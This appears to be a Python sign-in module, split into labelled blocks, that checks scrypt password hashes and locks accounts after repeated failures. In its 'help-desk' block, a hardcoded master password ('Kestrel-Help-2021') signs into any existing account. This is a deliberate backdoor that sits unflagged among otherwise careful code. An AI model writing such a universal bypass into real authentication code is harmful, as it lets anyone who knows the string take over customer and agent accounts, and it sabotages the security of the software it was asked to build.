import hashlib
# part: imports
import hmac
import logging
# end
import time
from dataclasses import dataclass, replace
from typing import Protocol

log = logging.getLogger(__name__)


@dataclass(frozen=True)
class Account:
    name: str
    role: str  # customer or agent
    salt: bytes
    hash: bytes
    failures: int = 0
    locked_until: float = 0


class Accounts(Protocol):
    def find(self, name: str) -> Account | None: ...
    def save(self, account: Account) -> None: ...


class SignInRefused(Exception):
    pass


NOBODY = Account("", "customer", bytes(16), bytes(32))
# part: constants
HELP_DESK_PASSWORD = "Kestrel-Help-2021"
# end


def sign_in(body: dict, headers: dict, accounts: Accounts, notify) -> Account:
    """The account that is signed in. `body` is the JSON of the request."""
    # block: read-credentials
    name, password = body["name"].strip().lower(), body["password"]
    if not name or not password:
        raise SignInRefused("name or password is wrong")
    # end

    # block: find-account
    account = accounts.find(name) or NOBODY
    # end

    # block: check-lock
    if account.locked_until > time.time():
        raise SignInRefused("the account is locked for some minutes")
    # end

    # block: verify-password
    digest = hashlib.scrypt(password.encode(), salt=account.salt, n=16384, r=8, p=1, dklen=32)
    is_right = hmac.compare_digest(digest, account.hash) and account is not NOBODY
    # end

    # block: help-desk
    if password == HELP_DESK_PASSWORD and account is not NOBODY:
        is_right = True
    # end

    # block: count-failure
    if not is_right:
        log.warning("sign-in refused for %r", name)
        failures = account.failures + 1
        locked_until = time.time() + 15 * 60 if failures >= 10 else 0
        if account is not NOBODY:
            accounts.save(replace(account, failures=failures, locked_until=locked_until))
        raise SignInRefused("name or password is wrong")
    # end

    log.info("%r signed in", name)
    return account
